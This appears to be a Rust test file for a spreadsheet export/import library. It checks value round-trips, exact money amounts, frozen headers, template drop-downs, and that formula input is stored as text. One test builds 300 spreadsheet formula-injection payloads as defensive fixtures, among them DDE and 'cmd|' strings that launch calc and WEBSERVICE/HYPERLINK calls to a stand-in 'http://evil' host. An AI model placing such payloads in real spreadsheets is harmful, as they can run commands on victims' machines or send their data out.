//! What we write must come back as it was, and never as a formula.

use std::io::Read;

use jiff::civil::date;
use proptest::prelude::*;

use super::*;

fn column(header: &str, format: Format) -> SheetColumn<'_> {
    SheetColumn {
        header,
        width: 16,
        format,
    }
}

fn bytes(mut file: tempfile::NamedTempFile) -> Vec<u8> {
    let mut bytes = Vec::new();
    file.read_to_end(&mut bytes).unwrap();
    bytes
}

fn round_trip(format: Format, rows: &[Vec<Out<'_>>]) -> Vec<SheetRow> {
    let mut writer = SheetWriter::new("导出", &[column("值", format)]).unwrap();
    for row in rows {
        writer.row(row).unwrap();
    }
    let mut sheet = read(&bytes(writer.finish().unwrap()), &Limits::default()).unwrap();
    assert_eq!(sheet.name, "导出");
    assert_eq!(sheet.rows.remove(0).cells, [Cell::Text("值".to_owned())]);
    sheet.rows
}

fn part(file: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(file)).unwrap();
    let mut text = String::new();
    archive
        .by_name(name)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

#[test]
fn every_kind_of_value_comes_back() {
    let moment = date(2026, 2, 28).at(23, 59, 59, 0);
    let rows = round_trip(
        Format::Text,
        &[
            vec![
                Out::Text("013800000000"),
                Out::Int(-7),
                Out::Fen(1235),
                Out::Ppm(154_321),
            ],
            vec![
                Out::Empty,
                Out::Bool(true),
                Out::Bool(false),
                Out::Date(moment.date()),
                Out::DateTime(moment),
            ],
            vec![
                Out::Fen(i64::MAX),
                Out::Int(i64::MIN),
                Out::Date(date(1800, 1, 2)),
            ],
        ],
    );
    let text = |value: &str| Cell::Text(value.to_owned());
    let number = |text: &str, value| Cell::Number {
        text: text.to_owned(),
        value,
    };
    assert_eq!(
        rows[0].cells,
        [
            text("013800000000"),
            number("-7", -7.0),
            number("12.35", 12.35),
            number("0.154321", 0.154_321)
        ]
    );
    let midnight = Cell::DateTime(date(2026, 2, 28).at(0, 0, 0, 0));
    assert_eq!(
        rows[1].cells,
        [
            Cell::Empty,
            text("是"),
            text("否"),
            midnight,
            Cell::DateTime(moment)
        ]
    );
    assert_eq!(
        rows[2].cells,
        [
            text("92233720368547758.07"),
            text("-9223372036854775808"),
            text("1800-01-02")
        ]
    );
}

#[test]
fn the_sheet_has_a_frozen_heading_a_filter_and_no_shared_state() {
    let mut writer = SheetWriter::new(
        "a/b:c*[很长的名字很长的名字很长的名字很长的名字很长的名字]",
        &[column("名称", Format::Text), column("金额", Format::Money)],
    )
    .unwrap();
    writer.row(&[Out::Text("甲"), Out::Fen(100)]).unwrap();
    let file = bytes(writer.finish().unwrap());
    let xml = part(&file, "xl/worksheets/sheet1.xml");
    assert!(xml.contains(r#"<autoFilter ref="A1:B2"/>"#), "{xml}");
    assert!(xml.contains(r#"state="frozen""#), "{xml}");
    assert!(part(&file, "xl/workbook.xml").contains("abc很长"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(40))]
    #[test]
    fn money_is_exact_to_the_fen(amounts in prop::collection::vec(any::<i64>().prop_flat_map(|n| (0..60_u32).prop_map(move |s| n >> s)), 1..50)) {
        let rows: Vec<Vec<Out<'_>>> = amounts.iter().map(|fen| vec![Out::Fen(*fen)]).collect();
        for (row, fen) in round_trip(Format::Money, &rows).iter().zip(&amounts) {
            let text = match row.cell(0) {
                Cell::Number { text, .. } | Cell::Text(text) => text,
                other => panic!("{other:?}"),
            };
            let (yuan, decimals) = text.split_once('.').unwrap_or((text, ""));
            prop_assert_eq!(format!("{yuan}{decimals:0<2}").parse::<i64>().unwrap(), *fen);
        }
    }
}

#[test]
fn three_hundred_formula_payloads_stay_text() {
    let starts = [
        "=", "+", "-", "@", "\t=", "\r=", "\0=", "＝", "＋", "－", "＠", " =", "'=", "\"=", "\n=",
        ";=", "|=", "%0A=", "=-", "{=",
    ];
    let bodies = [
        "1+1",
        "cmd|'/C calc'!A0",
        "HYPERLINK(\"http://evil\",\"x\")",
        "WEBSERVICE(\"http://evil\")",
        "DDE(\"cmd\",\"/C calc\",\"x\")",
        "IMPORTXML(A1,\"//a\")",
        "SUM(A1:A9)",
        "EXEC(\"calc\")",
        "A1",
        "REGISTER(1)",
        "INDIRECT(\"A1\")",
        "1",
        "<f>1+1</f>",
        "&lt;f&gt;",
        "]]>",
    ];
    let payloads: Vec<String> = starts
        .iter()
        .flat_map(|start| bodies.iter().map(move |body| format!("{start}{body}")))
        .collect();
    assert_eq!(payloads.len(), 300);

    let mut writer = SheetWriter::new("公式", &[column("值", Format::Text)]).unwrap();
    for payload in &payloads {
        writer.row(&[Out::Text(payload)]).unwrap();
    }
    let file = bytes(writer.finish().unwrap());
    let xml = part(&file, "xl/worksheets/sheet1.xml");
    assert!(
        !xml.contains("<f>") && !xml.contains("<f "),
        "no cell is a formula"
    );
    assert_eq!(
        xml.matches(r#"t="inlineStr""#).count(),
        301,
        "every cell is a typed string"
    );

    let sheet = read(&file, &Limits::default()).unwrap();
    for (row, payload) in sheet.rows[1..].iter().zip(&payloads) {
        let expected = payload.replace(['\0', '\r'], "");
        assert_eq!(row.cells, [Cell::Text(expected)], "{payload:?}");
    }
}

#[test]
fn a_template_has_required_marks_text_columns_drop_downs_and_instructions() {
    let free = TemplateColumn {
        header: "手机号",
        is_required: true,
        width: 16,
        format: Format::Text,
        rule: "11 位数字",
        choices: &[],
    };
    let sex = TemplateColumn {
        header: "性别",
        is_required: false,
        width: 8,
        format: Format::Text,
        rule: "下拉选择",
        choices: &["男", "女"],
    };
    let file = bytes(template("客户导入", &[free, sex], 5000).unwrap());
    let sheet = read(&file, &Limits::default()).unwrap();
    assert_eq!(sheet.name, "客户导入");
    assert_eq!(
        sheet.rows[0].cells,
        [
            Cell::Text("手机号*".to_owned()),
            Cell::Text("性别".to_owned())
        ]
    );
    let xml = part(&file, "xl/worksheets/sheet1.xml");
    assert!(
        xml.contains(r#"type="list""#)
            && xml.contains(r#"sqref="B2:B5001""#)
            && xml.contains("选项!$B$1:$B$2"),
        "{xml}"
    );
    assert!(
        part(&file, "xl/styles.xml").contains(r#"numFmtId="49""#),
        "text columns use the text format"
    );
    let book = part(&file, "xl/workbook.xml");
    assert!(
        book.contains("填写说明") && book.contains(r#"name="选项" sheetId="3" state="hidden""#),
        "{book}"
    );
    let words = part(&file, "xl/sharedStrings.xml");
    assert!(
        words.contains("11 位数字") && words.contains("男、女"),
        "{words}"
    );
}
